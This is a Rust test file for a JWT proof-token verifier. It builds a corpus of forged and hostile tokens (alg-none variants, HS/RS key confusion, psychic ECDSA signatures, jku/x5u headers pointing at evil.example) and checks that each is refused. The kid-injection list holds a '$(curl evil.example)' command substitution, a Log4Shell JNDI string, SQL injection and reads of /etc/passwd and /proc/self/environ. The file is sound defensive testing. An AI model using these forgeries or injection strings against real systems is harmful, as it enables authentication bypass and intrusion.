//! The attack corpus: hostile tokens and requests, by attack class, each with the exact decision
//! reason it must get. Run against a real issuer server on loopback (see `common.rs`).
//!
//! `verify.rs` holds the first hostile-token cases (alg `none` spellings, the basic HS/RS
//! confusion, one case per refused header, a stripped signature, a swapped payload, a numeric
//! string `exp`, a duplicated `exp`, the zero ES256 signature); this file adds the rest of each
//! class and the request-level tricks. A case list is checked as a whole, so one run reports
//! every case that gets the wrong reason.

mod common;

use std::sync::Arc;

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use common::{phone_token, rig, rig_with, Rig, Tuning};
use http::{HeaderMap, HeaderValue, Method};
use proofgate_core::decision::Decision;
use proofgate_core::forward::upstream_edits;
use proofgate_core::path::{normalize_path, PathError};
use proofgate_core::policy::{OnFailure, Policy, Requirement};
use proofgate_core::proof::identity_headers;
use proofgate_core::routes::{PathPattern, Route, RouteTable};
use proofgate_core::testing::{self, b64, SigningKey};
use proofgate_core::tokens::{extract_tokens, TokenSource};
use proofgate_core::Reason;
use serde_json::{json, Value};

const KID: &str = "proof-holdings-2026-01";

/// One hostile input and the outcome it must get (`None`: it must verify).
struct Case {
    class: &'static str,
    name: String,
    token: String,
    want: Option<Reason>,
}

#[derive(Default)]
struct Corpus(Vec<Case>);

impl Corpus {
    fn add(&mut self, class: &'static str, name: impl Into<String>, token: String, want: Reason) {
        self.0.push(Case {
            class,
            name: name.into(),
            token,
            want: Some(want),
        });
    }

    fn ok(&mut self, class: &'static str, name: impl Into<String>, token: String) {
        self.0.push(Case {
            class,
            name: name.into(),
            token,
            want: None,
        });
    }

    /// Checks every case through the full check (signature, claims, revocation) and reports all
    /// mismatches at once.
    fn check(self, r: &Rig) {
        let total = self.0.len();
        let mut wrong = Vec::new();
        for c in self.0 {
            let got = r.enforcer.check_token(&c.token).err();
            // A second look must agree with the first (the cache must not change a verdict).
            let again = r.enforcer.check_token(&c.token).err();
            if got != c.want || again != got {
                wrong.push(format!(
                    "[{}] {}: want {:?}, got {:?} then {:?}",
                    c.class, c.name, c.want, got, again
                ));
            }
        }
        assert!(
            wrong.is_empty(),
            "{} of {total} cases got the wrong outcome:\n{}",
            wrong.len(),
            wrong.join("\n")
        );
    }
}

fn base_claims() -> Value {
    serde_json::to_value(testing::claims(
        "507f1f77bcf86cd799439011",
        "phone",
        "sms",
        "+37069199199",
    ))
    .unwrap()
}

fn with(mut claims: Value, key: &str, value: Value) -> Value {
    claims[key] = value;
    claims
}

fn hmac_token(alg: &str, secret: &[u8], header: &Value, payload: &[u8]) -> String {
    let input = format!("{}.{}", b64(header.to_string()), b64(payload));
    let algorithm = match alg {
        "HS384" => aws_lc_rs::hmac::HMAC_SHA384,
        "HS512" => aws_lc_rs::hmac::HMAC_SHA512,
        _ => aws_lc_rs::hmac::HMAC_SHA256,
    };
    let tag = aws_lc_rs::hmac::sign(
        &aws_lc_rs::hmac::Key::new(algorithm, secret),
        input.as_bytes(),
    );
    format!("{input}.{}", b64(tag.as_ref()))
}

fn parts(token: &str) -> (String, String, String) {
    let mut it = token.split('.');
    (
        it.next().unwrap().into(),
        it.next().unwrap().into(),
        it.next().unwrap().into(),
    )
}

/// The same signing input with another signature.
fn resigned(token: &str, signature: &[u8]) -> String {
    let (h, p, _) = parts(token);
    format!("{h}.{p}.{}", b64(signature))
}

#[tokio::test]
async fn algorithm_attacks() {
    let r = rig().await;
    let k = &r.key;
    let claims = base_claims();
    let payload = claims.to_string();
    let good = k.sign_json(&claims);
    let (_, _, good_sig) = parts(&good);
    let mut c = Corpus::default();

    // alg none, every spelling, with and without a signature, with the issuer's kid.
    for alg in [
        "none",
        "NoNe",
        "nONE",
        "none ",
        " none",
        "none\u{0}",
        "",
        "null",
    ] {
        let header = json!({"alg": alg, "typ": "JWT", "kid": KID});
        c.add(
            "alg none",
            format!("{alg:?} unsigned"),
            format!("{}.{}.", b64(header.to_string()), b64(&payload)),
            Reason::UnsupportedAlgorithm,
        );
        c.add(
            "alg none",
            format!("{alg:?} with a real signature kept"),
            format!("{}.{}.{good_sig}", b64(header.to_string()), b64(&payload)),
            Reason::UnsupportedAlgorithm,
        );
    }
    c.add(
        "alg none",
        "alg missing",
        k.sign_raw(&json!({"typ": "JWT", "kid": KID}), payload.as_bytes()),
        Reason::Malformed,
    );
    c.add(
        "alg none",
        "alg null",
        k.sign_raw(&json!({"alg": null, "kid": KID}), payload.as_bytes()),
        Reason::Malformed,
    );
    c.add(
        "alg none",
        "alg a number",
        k.sign_raw(&json!({"alg": 256, "kid": KID}), payload.as_bytes()),
        Reason::Malformed,
    );
    c.add(
        "alg none",
        "alg an array",
        k.sign_raw(&json!({"alg": ["RS256"], "kid": KID}), payload.as_bytes()),
        Reason::Malformed,
    );

    // HS/RS confusion: every HMAC size, with every encoding of the public key an attacker might
    // try as the secret.
    let der = k.public_key_bytes();
    let jwk = k.jwk();
    let n = URL_SAFE_NO_PAD.decode(jwk["n"].as_str().unwrap()).unwrap();
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        STANDARD.encode(&der)
    );
    let secrets: [(&str, Vec<u8>); 5] = [
        ("DER", der.clone()),
        ("PEM", pem.into_bytes()),
        ("JWK JSON", jwk.to_string().into_bytes()),
        ("modulus", n),
        ("empty", Vec::new()),
    ];
    for alg in ["HS256", "HS384", "HS512"] {
        for (what, secret) in &secrets {
            for kid in [Some(KID), None] {
                let mut header = json!({"alg": alg, "typ": "JWT"});
                if let Some(kid) = kid {
                    header["kid"] = json!(kid);
                }
                c.add(
                    "hs/rs confusion",
                    format!("{alg} keyed with the {what}, kid {kid:?}"),
                    hmac_token(alg, secret, &header, payload.as_bytes()),
                    Reason::UnsupportedAlgorithm,
                );
            }
        }
    }
    // Algorithms outside the allow-list, or the allowed ones misspelled.
    for alg in [
        "RS384", "RS512", "PS256", "PS384", "PS512", "ES384", "ES512", "EdDSA", "ES256K", "rs256",
        "Rs256", "RS256 ", "RS 256", "RSA", "HS256",
    ] {
        c.add(
            "alg outside the allow-list",
            alg,
            k.sign_raw(
                &json!({"alg": alg, "typ": "JWT", "kid": KID}),
                payload.as_bytes(),
            ),
            Reason::UnsupportedAlgorithm,
        );
    }
    // The token's alg disagrees with the key's: the key's algorithm is used, never the token's.
    let ec = SigningKey::es256(KID);
    c.add(
        "alg/key mismatch",
        "ES256 header and signature on the RSA kid",
        ec.sign_raw(&json!({"alg": "ES256", "kid": KID}), payload.as_bytes()),
        Reason::UnknownKey,
    );
    c.add(
        "alg/key mismatch",
        "ES256 header over an RS256 signature",
        format!(
            "{}.{}.{good_sig}",
            b64(json!({"alg": "ES256", "typ": "JWT", "kid": KID}).to_string()),
            b64(&payload)
        ),
        Reason::UnknownKey,
    );
    c.ok("control", "the real token", good);
    c.check(&r);
}

#[tokio::test]
async fn key_selection_attacks() {
    let r = rig_with(Tuning {
        cooldown: std::time::Duration::from_secs(60),
        ..Tuning::default()
    })
    .await;
    let k = &r.key;
    let claims = base_claims();
    let payload = claims.to_string();
    let attacker = SigningKey::rsa("attacker");
    // A second published key, to check that a kid selects exactly that key.
    let second = SigningKey::rsa("proof-holdings-2026-02");
    let ec = SigningKey::es256("proof-holdings-ec-1");
    r.server.set_jwks(testing::jwks(&[k, &second, &ec]));
    r.keys.refresh().await.unwrap();
    let mut c = Corpus::default();

    // kid path traversal and injection: never a file, a query or a URL, only an exact name.
    let hostile_kids = [
        "../../../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "https://evil.example/jwks.json",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "$(curl evil.example)",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "proof-holdings-2026-01\u{0}",
        "proof-holdings-2026-01 ",
        " proof-holdings-2026-01",
        "PROOF-HOLDINGS-2026-01",
        "proof-holdings-2026-01/../proof-holdings-2026-01",
        "proof-holdings-2026-01\r\nx-injected: 1",
        "proof-holdings-*",
        "*",
        "",
        "%00",
    ];
    for kid in hostile_kids {
        let header = json!({"alg": "RS256", "typ": "JWT", "kid": kid});
        c.add(
            "kid injection",
            format!("{kid:?} signed by the attacker"),
            attacker.sign_raw(&header, payload.as_bytes()),
            Reason::UnknownKey,
        );
        c.add(
            "kid injection",
            format!("{kid:?} signed by the issuer's own key"),
            k.sign_raw(&header, payload.as_bytes()),
            Reason::UnknownKey,
        );
    }
    let long_kid = "k".repeat(4000);
    c.add(
        "kid injection",
        "a 4000-byte kid",
        attacker.sign_raw(
            &json!({"alg": "RS256", "kid": long_kid}),
            payload.as_bytes(),
        ),
        Reason::UnknownKey,
    );
    for (what, kid) in [
        ("a number", json!(1)),
        ("an object", json!({"$ne": null})),
        ("an array", json!([KID])),
        ("true", json!(true)),
    ] {
        c.add(
            "kid injection",
            format!("kid {what}"),
            k.sign_raw(&json!({"alg": "RS256", "kid": kid}), payload.as_bytes()),
            Reason::Malformed,
        );
    }
    // A kid selects exactly that key: no fallback to another published key.
    c.add(
        "kid selection",
        "signed by the first key, kid of the second",
        k.sign_raw(
            &json!({"alg": "RS256", "kid": second.kid()}),
            payload.as_bytes(),
        ),
        Reason::InvalidSignature,
    );
    c.add(
        "kid selection",
        "the attacker's key under the issuer's kid",
        attacker.sign_raw(&json!({"alg": "RS256", "kid": KID}), payload.as_bytes()),
        Reason::InvalidSignature,
    );
    // Without a kid, each published key of the algorithm is tried (the SDKs' rule) — and only
    // the published ones.
    c.ok(
        "kid selection",
        "no kid, second key",
        second.sign_raw(&json!({"alg": "RS256", "typ": "JWT"}), payload.as_bytes()),
    );
    c.ok(
        "kid selection",
        "kid null, EC key",
        ec.sign_raw(&json!({"alg": "ES256", "kid": null}), payload.as_bytes()),
    );
    c.add(
        "kid selection",
        "no kid, the attacker's key",
        attacker.sign_raw(&json!({"alg": "RS256"}), payload.as_bytes()),
        Reason::InvalidSignature,
    );
    // Header-embedded keys and key references, each carrying the attacker's own key or a URL
    // serving it, signed by the attacker: refused before any key is looked at.
    let evil_jwks = "https://evil.example/.well-known/jwks.json";
    let issuer_jwks = r.server.jwks_url();
    for (name, extra) in [
        ("jwk: the attacker's key", json!({"jwk": attacker.jwk()})),
        ("jwk: an empty object", json!({"jwk": {}})),
        ("jku: evil", json!({"jku": evil_jwks})),
        ("jku: the issuer's own JWKS", json!({"jku": issuer_jwks})),
        ("jku: relative", json!({"jku": "/.well-known/jwks.json"})),
        ("x5u: evil", json!({"x5u": "https://evil.example/cert.pem"})),
        (
            "x5c: a chain",
            json!({"x5c": [STANDARD.encode(attacker.public_key_bytes())]}),
        ),
        ("x5c: empty", json!({"x5c": []})),
        ("x5t", json!({"x5t": "dGh1bWJwcmludA"})),
        ("x5t#S256", json!({"x5t#S256": "dGh1bWJwcmludA"})),
        ("crit: empty", json!({"crit": []})),
        ("crit: b64", json!({"crit": ["b64"], "b64": false})),
        ("crit: unknown", json!({"crit": ["exp"], "exp": 1})),
        ("cty: JWT", json!({"cty": "JWT"})),
        ("cty: jwt", json!({"cty": "jwt"})),
    ] {
        for (who, key, kid) in [("attacker", &attacker, "attacker"), ("issuer", k, KID)] {
            let mut header = json!({"alg": "RS256", "typ": "JWT", "kid": kid});
            header
                .as_object_mut()
                .unwrap()
                .extend(extra.as_object().unwrap().clone());
            c.add(
                "header-embedded key",
                format!("{name}, signed by the {who}"),
                key.sign_raw(&header, payload.as_bytes()),
                Reason::ForbiddenHeader,
            );
        }
    }
    // Duplicated header members: refused, whichever copy a lenient parser would keep.
    let h = b64(r#"{"alg":"none","alg":"RS256","kid":"proof-holdings-2026-01"}"#);
    let dup_alg = {
        let input = format!("{h}.{}", b64(&payload));
        format!("{input}.{}", b64(k.sign_bytes(input.as_bytes())))
    };
    c.add(
        "duplicate JSON keys",
        "alg twice",
        dup_alg,
        Reason::Malformed,
    );
    let h = b64(r#"{"alg":"RS256","kid":"attacker","kid":"proof-holdings-2026-01"}"#);
    let dup_kid = {
        let input = format!("{h}.{}", b64(&payload));
        format!("{input}.{}", b64(k.sign_bytes(input.as_bytes())))
    };
    c.add(
        "duplicate JSON keys",
        "kid twice",
        dup_kid,
        Reason::Malformed,
    );
    let h = b64(
        r#"{"alg":"RS256","kid":"proof-holdings-2026-01","jku":null,"jku":"https://evil.example/"}"#,
    );
    let dup_jku = {
        let input = format!("{h}.{}", b64(&payload));
        format!("{input}.{}", b64(k.sign_bytes(input.as_bytes())))
    };
    c.add(
        "duplicate JSON keys",
        "jku null then a URL",
        dup_jku,
        Reason::Malformed,
    );
    c.check(&r);

    // A flood of distinct unknown kids costs at most one JWKS refetch per cooldown.
    let before = r.server.jwks_hits();
    for i in 0..300 {
        let t = attacker.sign_raw(
            &json!({"alg": "RS256", "kid": format!("flood-{i}")}),
            payload.as_bytes(),
        );
        assert_eq!(r.enforcer.check_token(&t).err(), Some(Reason::UnknownKey));
    }
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let refetches = r.server.jwks_hits() - before;
    assert!(refetches <= 1, "{refetches} JWKS refetches for a kid flood");
}

#[tokio::test]
async fn key_purpose_and_window_attacks() {
    let r = rig().await;
    let k = &r.key;
    let status_key = SigningKey::rsa("status-2026");
    let delegation_key = SigningKey::es256("delegation-2026");
    let retired = SigningKey::rsa("retired-2025");
    let future = SigningKey::rsa("future-2027");
    let short = SigningKey::es256("short-lived");
    let now = testing::now();
    let jwk = |key: &SigningKey, extra: Value| {
        let mut j = key.jwk();
        j.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        j
    };
    let jwks = json!({"keys": [
        k.jwk(),
        jwk(&status_key, json!({"proof_purpose": "status-list"})),
        jwk(&delegation_key, json!({"proof_purpose": "delegation"})),
        jwk(&retired, json!({"proof_purpose": "proof", "not_after": now - 86400})),
        jwk(&future, json!({"proof_purpose": "proof", "not_before": testing::rfc3339(now + 86400)})),
        jwk(&short, json!({"proof_purpose": "proof", "max_token_lifetime": 3600})),
    ]});
    r.server.set_jwks(jwks);
    r.keys.refresh().await.unwrap();
    let claims = base_claims();
    let mut c = Corpus::default();
    c.add(
        "key purpose",
        "proof signed by the status-list key",
        status_key.sign_json(&claims),
        Reason::UnknownKey,
    );
    c.add(
        "key purpose",
        "proof signed by the delegation key",
        delegation_key.sign_json(&claims),
        Reason::UnknownKey,
    );
    c.add(
        "key purpose",
        "status-list key, no kid",
        status_key.sign_raw(&json!({"alg": "RS256"}), claims.to_string().as_bytes()),
        Reason::InvalidSignature,
    );
    c.add(
        "key window",
        "issued by a retired key after its window",
        retired.sign_json(&claims),
        Reason::InvalidSignature,
    );
    c.ok(
        "key window",
        "issued by the retired key inside its window",
        retired.sign_json(&with(claims.clone(), "iat", json!(now - 2 * 86400))),
    );
    c.add(
        "key window",
        "issued by a key before its window",
        future.sign_json(&claims),
        Reason::InvalidSignature,
    );
    c.add(
        "key window",
        "lifetime longer than the key allows",
        short.sign_json(&claims),
        Reason::InvalidClaims,
    );
    c.ok(
        "key window",
        "lifetime inside what the key allows",
        short.sign_json(&with(claims.clone(), "exp", json!(now + 1800))),
    );
    // Another signed document of the issuer's presented as a proof token.
    let uri = r.server.status_list_url("1");
    c.add(
        "token substitution",
        "a status-list JWT",
        testing::status_list_jwt(&status_key, &uri, 2, &[0], 60),
        Reason::UnknownKey,
    );
    c.add(
        "token substitution",
        "a status-list JWT signed by the proof key",
        testing::status_list_jwt(k, &uri, 2, &[0], 60),
        Reason::Malformed,
    );
    let list = testing::revocation_list(Some(k), &["x"]);
    c.add(
        "token substitution",
        "a revocation list's signature",
        list["signature"].as_str().unwrap().to_string(),
        Reason::Issuer,
    );
    c.add(
        "token substitution",
        "a delegation token",
        k.sign_json(&with(claims.clone(), "token_type", json!("delegation"))),
        Reason::InvalidClaims,
    );
    c.add(
        "token substitution",
        "token_type in capitals",
        k.sign_json(&with(claims.clone(), "token_type", json!("PROOF"))),
        Reason::InvalidClaims,
    );
    c.ok(
        "token substitution",
        "token_type proof",
        k.sign_json(&with(claims.clone(), "token_type", json!("proof"))),
    );
    c.check(&r);
}

#[tokio::test]
async fn signature_attacks() {
    let r = rig().await;
    let k = &r.key;
    let ec = SigningKey::es256("proof-holdings-ec-1");
    r.server.set_jwks(testing::jwks(&[k, &ec]));
    r.keys.refresh().await.unwrap();
    let claims = base_claims();
    let rs = k.sign_json(&claims);
    let es = ec.sign_json(&claims);
    let (h, p, s) = parts(&rs);
    let mut c = Corpus::default();

    // Signature stripping.
    c.add(
        "signature stripping",
        "RS256, two segments",
        format!("{h}.{p}"),
        Reason::Malformed,
    );
    c.add(
        "signature stripping",
        "RS256, empty signature",
        format!("{h}.{p}."),
        Reason::InvalidSignature,
    );
    let (eh, ep, es_sig) = parts(&es);
    c.add(
        "signature stripping",
        "ES256, empty signature",
        format!("{eh}.{ep}."),
        Reason::InvalidSignature,
    );
    c.add(
        "signature stripping",
        "signature \"AA\"",
        format!("{h}.{p}.AA"),
        Reason::InvalidSignature,
    );

    // ES256 "psychic signatures" (CVE-2022-21449) and other degenerate ECDSA values.
    let n = hex_bytes("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551");
    let mut r_eq_s_eq_n = n.clone();
    r_eq_s_eq_n.extend_from_slice(&n);
    let mut r0_s1 = vec![0u8; 63];
    r0_s1.push(1);
    let mut r1_s0 = vec![0u8; 31];
    r1_s0.push(1);
    r1_s0.extend_from_slice(&[0u8; 32]);
    for (name, sig) in [
        ("r = s = 0", vec![0u8; 64]),
        ("r = s = n", r_eq_s_eq_n),
        ("r = 0, s = 1", r0_s1),
        ("r = 1, s = 0", r1_s0),
        ("all ones", vec![0xff; 64]),
        (
            "DER-encoded r = s = 0",
            vec![0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00],
        ),
        ("63 bytes", vec![1u8; 63]),
        ("65 bytes", vec![1u8; 65]),
    ] {
        c.add(
            "psychic signature",
            name,
            resigned(&es, &sig),
            Reason::InvalidSignature,
        );
    }
    // The real ES256 signature DER-encoded instead of fixed-width.
    let raw = URL_SAFE_NO_PAD.decode(&es_sig).unwrap();
    c.add(
        "psychic signature",
        "the real signature, DER-encoded",
        resigned(&es, &der_ecdsa(&raw[..32], &raw[32..])),
        Reason::InvalidSignature,
    );
    // RSA degenerate signatures.
    let rsa_sig = URL_SAFE_NO_PAD.decode(&s).unwrap();
    let mut longer = vec![0u8];
    longer.extend_from_slice(&rsa_sig);
    let mut one = vec![0u8; 255];
    one.push(1);
    for (name, sig) in [
        ("zeros", vec![0u8; 256]),
        ("one", one),
        ("modulus-length ones", vec![0xff; 256]),
        ("the real signature with a leading zero byte", longer),
        ("the real signature truncated", rsa_sig[..255].to_vec()),
    ] {
        c.add(
            "rsa signature",
            name,
            resigned(&rs, &sig),
            Reason::InvalidSignature,
        );
    }
    // A valid signature over a modified payload or header.
    let swap = |h: &str, p: String| format!("{h}.{}.{s}", b64(p));
    c.add(
        "modified payload",
        "same claims, other whitespace",
        swap(&h, serde_json::to_string_pretty(&claims).unwrap()),
        Reason::InvalidSignature,
    );
    c.add(
        "modified payload",
        "subject changed",
        swap(
            &h,
            with(claims.clone(), "sub", json!("someone-else")).to_string(),
        ),
        Reason::InvalidSignature,
    );
    c.add(
        "modified payload",
        "exp extended",
        swap(
            &h,
            with(claims.clone(), "exp", json!(9_999_999_999i64)).to_string(),
        ),
        Reason::InvalidSignature,
    );
    c.add(
        "modified payload",
        "identifier hash replaced",
        swap(
            &h,
            with(
                claims.clone(),
                "identifier_hash",
                json!(proofgate_core::identifier::identifier_hash(
                    "email",
                    "ceo@corp.example"
                )),
            )
            .to_string(),
        ),
        Reason::InvalidSignature,
    );
    c.add(
        "modified header",
        "typ dropped",
        format!(
            "{}.{p}.{s}",
            b64(json!({"alg": "RS256", "kid": KID}).to_string())
        ),
        Reason::InvalidSignature,
    );
    c.add(
        "modified header",
        "header re-encoded with padding bits changed",
        format!("{}.{p}.{s}", reencode_with_spaces(&h)),
        Reason::InvalidSignature,
    );
    // Segments swapped or repeated.
    c.add(
        "segment games",
        "payload and header swapped",
        format!("{p}.{h}.{s}"),
        Reason::Malformed,
    );
    // The payload is decoded only once the signature holds over the exact bytes.
    c.add(
        "segment games",
        "header twice",
        format!("{h}.{h}.{s}"),
        Reason::InvalidSignature,
    );
    c.add(
        "segment games",
        "two tokens glued",
        format!("{rs}.{es}"),
        Reason::Malformed,
    );
    c.ok("control", "RS256", rs.clone());
    c.ok("control", "ES256", es.clone());
    c.check(&r);
}

fn hex_bytes(hex: &str) -> Vec<u8> {
    (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
        .collect()
}

fn der_ecdsa(r: &[u8], s: &[u8]) -> Vec<u8> {
    fn int(v: &[u8]) -> Vec<u8> {
        let v = &v[v.iter().take_while(|b| **b == 0).count().min(v.len() - 1)..];
        let mut out = vec![0x02];
        let pad = v[0] & 0x80 != 0;
        out.push((v.len() + usize::from(pad)) as u8);
        if pad {
            out.push(0);
        }
        out.extend_from_slice(v);
        out
    }
    let body = [int(r), int(s)].concat();
    let mut out = vec![0x30, body.len() as u8];
    out.extend_from_slice(&body);
    out
}

/// The header's JSON with a space after the first `{`: same meaning, other bytes.
fn reencode_with_spaces(h: &str) -> String {
    let json = String::from_utf8(URL_SAFE_NO_PAD.decode(h).unwrap()).unwrap();
    b64(json.replacen('{', "{ ", 1))
}

#[tokio::test]
async fn encoding_and_size_attacks() {
    let r = rig().await;
    let k = &r.key;
    let good = phone_token(k, "enc");
    let (h, p, s) = parts(&good);
    let mut c = Corpus::default();

    // Whitespace anywhere. Inside the payload segment it breaks the signature first: the payload
    // is decoded only once the signature holds over the exact bytes.
    c.add(
        "whitespace",
        "CRLF in the payload",
        format!("{h}.{}\r\n{}.{s}", &p[..10], &p[10..]),
        Reason::InvalidSignature,
    );
    c.add(
        "whitespace",
        "tab after a dot",
        format!("{h}.\t{p}.{s}"),
        Reason::InvalidSignature,
    );
    for (name, t) in [
        ("leading space", format!(" {good}")),
        ("trailing space", format!("{good} ")),
        ("trailing newline", format!("{good}\n")),
        (
            "space in the signature",
            format!("{h}.{p}.{} {}", &s[..10], &s[10..]),
        ),
        ("NUL at the end", format!("{good}\u{0}")),
        ("zero-width space", format!("{h}\u{200b}.{p}.{s}")),
    ] {
        c.add("whitespace", name, t, Reason::Malformed);
    }
    // Padding and alphabet variants of base64url.
    let std_sig = STANDARD.encode(URL_SAFE_NO_PAD.decode(&s).unwrap());
    for (name, t) in [
        ("padded header", format!("{h}==.{p}.{s}")),
        ("padded signature", format!("{h}.{p}.{s}==")),
        ("standard base64 signature", format!("{h}.{p}.{std_sig}")),
        ("percent-encoded dot", format!("{h}%2E{p}.{s}")),
    ] {
        let want = if name == "standard base64 signature" && !std_sig.contains(['+', '/', '=']) {
            None
        } else {
            Some(Reason::Malformed)
        };
        match want {
            Some(w) => c.add("padding", name, t, w),
            None => c.ok("padding", name, t),
        }
    }
    c.add(
        "padding",
        "padded payload",
        format!("{h}.{p}=.{s}"),
        Reason::InvalidSignature,
    );
    // Non-canonical trailing bits in the last base64 character decode to the same bytes in
    // lenient decoders; here they are refused.
    let last = s.chars().last().unwrap();
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let idx = alphabet.find(last).unwrap();
    let sibling = alphabet.chars().nth(idx ^ 1).unwrap();
    c.add(
        "padding",
        "signature with non-canonical trailing bits",
        format!("{h}.{p}.{}{sibling}", &s[..s.len() - 1]),
        Reason::Malformed,
    );
    // Header forms.
    for (name, header) in [
        ("header with a BOM", "\u{feff}{\"alg\":\"RS256\"}"),
        ("header JSON string", "\"RS256\""),
        ("header null", "null"),
        ("header truncated", "{\"alg\":\"RS256\""),
        ("header with a comment", "{\"alg\":\"RS256\" /* x */}"),
        ("header single quotes", "{'alg':'RS256'}"),
        (
            "header deep nesting",
            &format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)),
        ),
    ] {
        c.add(
            "header form",
            name,
            format!("{}.{p}.{s}", b64(header)),
            Reason::Malformed,
        );
    }
    // Sizes: the cap applies before any parsing.
    let mb = 1024 * 1024;
    c.add("size", "1 MB of 'a'", "a".repeat(mb), Reason::Malformed);
    c.add("size", "1 MB of dots", ".".repeat(mb), Reason::Malformed);
    c.add(
        "size",
        "1 MB payload in a well-formed token",
        format!("{h}.{}.{s}", "A".repeat(mb)),
        Reason::Malformed,
    );
    c.add(
        "size",
        "1 MB signed token",
        k.sign_json(&with(base_claims(), "user_id", json!("u".repeat(mb)))),
        Reason::Malformed,
    );
    c.add(
        "size",
        "1 MB header",
        format!(
            "{}.{p}.{s}",
            b64(format!(
                "{{\"alg\":\"RS256\",\"x\":\"{}\"}}",
                "x".repeat(mb)
            ))
        ),
        Reason::Malformed,
    );
    // The exact boundary: the largest token under the 8 KiB cap verifies, one byte more does not.
    let cap = r.verifier.config().max_token_bytes;
    let sized =
        |filler: usize| k.sign_json(&with(base_claims(), "user_id", json!("u".repeat(filler))));
    // Binary search for the largest filler that keeps the token within the cap.
    let (mut lo, mut hi) = (1, cap);
    while lo + 1 < hi {
        let mid = (lo + hi) / 2;
        if sized(mid).len() <= cap {
            lo = mid;
        } else {
            hi = mid;
        }
    }
    let filler = lo;
    let (at, over) = (sized(filler), sized(filler + 1));
    assert!(at.len() <= cap && over.len() > cap);
    c.ok("size", format!("{} bytes (at the cap)", at.len()), at);
    c.add(
        "size",
        format!("{} bytes (over the cap)", over.len()),
        over,
        Reason::Malformed,
    );
    // Nested JWTs: a signed token whose payload is itself a token.
    let inner = phone_token(k, "inner");
    c.add(
        "nested JWT",
        "payload is a token",
        k.sign_raw(&k.header(), inner.as_bytes()),
        Reason::Malformed,
    );
    c.add(
        "nested JWT",
        "payload is a token, cty JWT",
        k.sign_raw(
            &json!({"alg": "RS256", "kid": KID, "cty": "JWT"}),
            inner.as_bytes(),
        ),
        Reason::ForbiddenHeader,
    );
    c.add(
        "nested JWT",
        "payload is a JSON string holding a token",
        k.sign_raw(&k.header(), json!(inner).to_string().as_bytes()),
        Reason::Malformed,
    );
    c.add(
        "nested JWT",
        "typ at+jwt",
        k.sign_raw(
            &json!({"alg": "RS256", "kid": KID, "typ": "at+jwt"}),
            base_claims().to_string().as_bytes(),
        ),
        Reason::Malformed,
    );
    c.ok(
        "nested JWT",
        "typ jwt in lower case",
        k.sign_raw(
            &json!({"alg": "RS256", "kid": KID, "typ": "jwt"}),
            base_claims().to_string().as_bytes(),
        ),
    );
    c.add(
        "nested JWT",
        "a JWE (five segments)",
        format!("{h}.{p}.{s}.{p}.{s}"),
        Reason::Malformed,
    );
    c.ok("control", "the real token", good);
    c.check(&r);
}

#[tokio::test]
async fn claim_attacks() {
    let r = rig().await;
    let k = &r.key;
    let now = testing::now();
    let claims = base_claims();
    let sign = |v: Value| k.sign_json(&v);
    let raw = |s: String| k.sign_raw(&k.header(), s.as_bytes());
    let mut c = Corpus::default();

    // Numbers as strings, and other types where a NumericDate belongs.
    for claim in ["exp", "iat", "nbf"] {
        let base = if claim == "nbf" {
            now - 10
        } else {
            claims[claim].as_i64().unwrap()
        };
        for (what, v) in [
            ("a numeric string", json!(base.to_string())),
            ("a date string", json!(testing::rfc3339(base))),
            ("a boolean", json!(true)),
            ("an array", json!([base])),
            ("an object", json!({"$numberLong": base.to_string()})),
            ("1e300", json!(1e300)),
            ("i64::MAX", json!(i64::MAX)),
            ("u64::MAX", json!(u64::MAX)),
            ("-1e300", json!(-1e300)),
        ] {
            c.add(
                "numbers as strings",
                format!("{claim} as {what}"),
                sign(with(claims.clone(), claim, v)),
                Reason::Malformed,
            );
        }
    }
    // An exponent is still a JSON number: accepted, as RFC 7519 allows.
    c.ok(
        "numbers as strings",
        "exp as a number written with an exponent",
        raw(claims.to_string().replace(
            &format!("\"exp\":{}", claims["exp"]),
            &format!("\"exp\":{}e0", claims["exp"]),
        )),
    );
    // Extreme dates.
    for (name, exp, want) in [
        ("exp 0", json!(0), Some(Reason::Expired)),
        (
            "exp negative",
            json!(-9_999_999_999i64),
            Some(Reason::Expired),
        ),
        (
            "exp in year 33658 (just under the range cap)",
            json!(999_999_999_999_999i64),
            None,
        ),
        (
            "exp at the range cap",
            json!(1_000_000_000_000_000i64),
            Some(Reason::Malformed),
        ),
        (
            "exp a fraction in the future",
            json!(now as f64 + 3600.5),
            None,
        ),
        (
            "exp now - 5 s (the leeway)",
            json!(now - 5),
            Some(Reason::Expired),
        ),
        ("exp null", json!(null), Some(Reason::InvalidClaims)),
    ] {
        match want {
            Some(w) => c.add(
                "extreme dates",
                name,
                sign(with(claims.clone(), "exp", exp)),
                w,
            ),
            None => c.ok(
                "extreme dates",
                name,
                sign(with(claims.clone(), "exp", exp)),
            ),
        }
    }
    for (name, iat, want) in [
        ("iat far in the past", json!(-999_999_999_999i64), None),
        (
            "iat an hour ahead",
            json!(now + 3600),
            Some(Reason::NotYetValid),
        ),
        (
            "iat far ahead",
            json!(999_999_999_999_999i64),
            Some(Reason::NotYetValid),
        ),
        (
            "iat after exp",
            json!(claims["exp"].as_i64().unwrap() + 1),
            Some(Reason::NotYetValid),
        ),
    ] {
        match want {
            Some(w) => c.add(
                "extreme dates",
                name,
                sign(with(claims.clone(), "iat", iat)),
                w,
            ),
            None => c.ok(
                "extreme dates",
                name,
                sign(with(claims.clone(), "iat", iat)),
            ),
        }
    }
    c.add(
        "extreme dates",
        "nbf an hour ahead",
        sign(with(claims.clone(), "nbf", json!(now + 3600))),
        Reason::NotYetValid,
    );
    c.ok(
        "extreme dates",
        "nbf in the past",
        sign(with(claims.clone(), "nbf", json!(now - 3600))),
    );
